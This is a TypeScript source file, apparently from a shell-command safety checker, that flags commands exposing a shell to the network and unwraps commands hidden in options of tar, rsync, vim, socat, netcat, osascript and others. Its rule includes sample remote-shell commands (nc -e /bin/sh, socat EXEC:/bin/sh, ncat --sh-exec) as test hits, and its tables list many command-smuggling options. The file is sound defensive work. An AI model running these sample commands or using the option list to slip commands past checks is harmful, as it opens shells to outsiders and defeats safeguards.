import { operands, optionValues } from '../args.ts';
import { report, type Scope } from '../scope.ts';
import type { Arg, RuleInfo, SimpleCommand } from '../types.ts';
import { judgeInner, judgeShellText, type Unwrapped, type Unwrapper } from './inner.ts';

export const remoteShell: RuleInfo = {
  id: 'remote-shell',
  level: 'dangerous',
  sentence: 'Connects a shell or a program to the network, so that somebody else can use it.',
  needs: ['network'],
  hits: [
    'nc -e /bin/sh e.example 4444',
    'socat TCP-LISTEN:4444 EXEC:/bin/sh',
    'ncat --listen --sh-exec=sh 4444',
  ],
  misses: ['nc -z localhost 80', 'socat -V', 'mkfifo f'],
};

/** Options of ordinary programs whose value is a command. */
const optionScripts: Readonly<Record<string, readonly string[]>> = {
  tar: [
    '--to-command',
    '-I',
    '--use-compress-program',
    '--rsh-command',
    '-F',
    '--info-script',
    '--new-volume-script',
  ],
  gtar: ['--to-command', '-I', '--use-compress-program', '--rsh-command', '-F', '--info-script'],
  bsdtar: ['--use-compress-program'],
  rsync: ['-e', '--rsh', '--rsync-path'],
  scp: ['-S'],
  sftp: ['-S', '-D'],
  man: ['-P', '--pager', '-H', '--html'],
  less: ['-k'],
  su: ['-c', '--command'],
  script: ['-c', '--command'],
  sort: ['--compress-program'],
  split: ['--filter'],
  rg: ['--pre', '--hostname-bin'],
  zip: ['-TT', '--unzip-command'],
  tcpdump: ['-z'],
  nmap: [],
  wget: ['--use-askpass'],
  psql: [],
  expect: [],
  tmux: [],
  sg: ['-c'],
  newgrp: ['-c'],
  capsh: ['-c'],
  crontab: [],
  entr: [],
  gdb: ['-ex', '--ex', '-iex'],
  lldb: ['-o', '-O'],
  vim: ['-c', '--cmd'],
  vi: ['-c', '--cmd'],
  nvim: ['-c', '--cmd'],
  ex: ['-c'],
  at: [],
  fzf: ['--preview'],
};

/** Programs that carry a command in a place of their own. */
const special: Readonly<Record<string, Unwrapper>> = {
  tar: checkpoints,
  gtar: checkpoints,
  socat: (command, scope) => {
    for (const arg of command.args) {
      const match = /^(?:EXEC|SYSTEM|SHELL):(.*)$/i.exec(arg.value);
      if (!match?.[1]) continue;
      judgeShellText(
        command,
        { ...arg, value: match[1].replace(/^["']|["']$/g, '').replace(/\\"/g, '"') },
        scope,
      );
      report(scope, remoteShell, arg.span);
    }
    return 'judged';
  },
  nc: netcat,
  ncat: netcat,
  netcat,
  vim: bangs,
  vi: bangs,
  nvim: bangs,
  ex: bangs,
  script: (command, scope) => {
    const rest = operands(command, '-c -t -E -T -I -O -B -F -m -o --command').slice(1);
    if (rest.length > 0) judgeInner(command, rest, scope, { via: [...command.via, 'script-file'] });
    return 'judged';
  },
  cmd: (command, scope) => {
    const at = command.args.findIndex((arg) => /^\/[ck]$/i.test(arg.value));
    if (at !== -1) judgeInner(command, command.args.slice(at + 1), scope);
    return 'judged';
  },
  at: fromStdin,
  batch: fromStdin,
  tmux: (command, scope) => {
    for (const arg of operands(command, '-t -s -n -c -F -L -S -f').slice(1))
      if (/\s/.test(arg.value)) judgeShellText(command, arg, scope);
    return 'judged';
  },
  screen: (command, scope) => {
    const rest = operands(command, '-S -c -e -h -s -t -T -p');
    if (rest.length > 0) judgeInner(command, rest, scope);
    return 'judged';
  },
  osascript: (command, scope) => {
    for (const arg of optionValues(command, '-e')) {
      for (const match of arg.value.matchAll(/do shell script "((?:[^"\\]|\\.)*)"/g)) {
        judgeShellText(command, { ...arg, value: (match[1] ?? '').replace(/\\(.)/g, '$1') }, scope);
      }
    }
    return 'judged';
  },
  make: (command, scope) => {
    for (const arg of command.args)
      if (/^(?:SHELL|CC|CXX)=/.test(arg.value))
        judgeShellText(command, { ...arg, value: arg.value.slice(arg.value.indexOf('=') + 1) }, scope);
    return undefined;
  },
};

export function unwrapEmbedded(command: SimpleCommand, scope: Scope): Unwrapped {
  const names = Object.hasOwn(optionScripts, command.name) ? optionScripts[command.name] : undefined;
  let found = false;
  if (names && names.length > 0) {
    for (const arg of optionValues(command, ...names)) {
      if (arg.value === '' || /^[+:]/.test(arg.value)) continue;
      judgeShellText(command, arg, scope);
      found = true;
    }
  }
  const own = Object.hasOwn(special, command.name) ? special[command.name] : undefined;
  return own?.(command, scope) ?? (found ? 'judged' : undefined);
}

function checkpoints(command: SimpleCommand, scope: Scope): Unwrapped {
  for (const arg of optionValues(command, '--checkpoint-action')) {
    if (/^exec=/.test(arg.value)) judgeShellText(command, { ...arg, value: arg.value.slice(5) }, scope);
  }
  return undefined;
}

function netcat(command: SimpleCommand, scope: Scope): Unwrapped {
  const values = optionValues(command, '-e', '-c', '--exec', '--sh-exec', '--lua-exec');
  for (const arg of values) {
    judgeShellText(command, arg, scope);
    report(scope, remoteShell, arg.span);
  }
  return 'judged';
}

function bangs(command: SimpleCommand, scope: Scope): Unwrapped {
  for (const arg of command.args) {
    const match =
      /(?:^|[:+|\s])(?:silent!?\s*)?!(.+)$/.exec(arg.value) ?? /system\(['"](.+?)['"]\)/.exec(arg.value);
    if (match?.[1]) judgeShellText(command, { ...arg, value: match[1] }, scope);
  }
  return undefined;
}

function fromStdin(command: SimpleCommand, scope: Scope): Unwrapped {
  if (command.stdin.kind === 'text') {
    const arg: Arg = {
      value: command.stdin.text,
      literal: true,
      glob: false,
      span: command.stdin.span,
      text: '',
    };
    judgeShellText(command, arg, scope);
  }
  return 'judged';
}
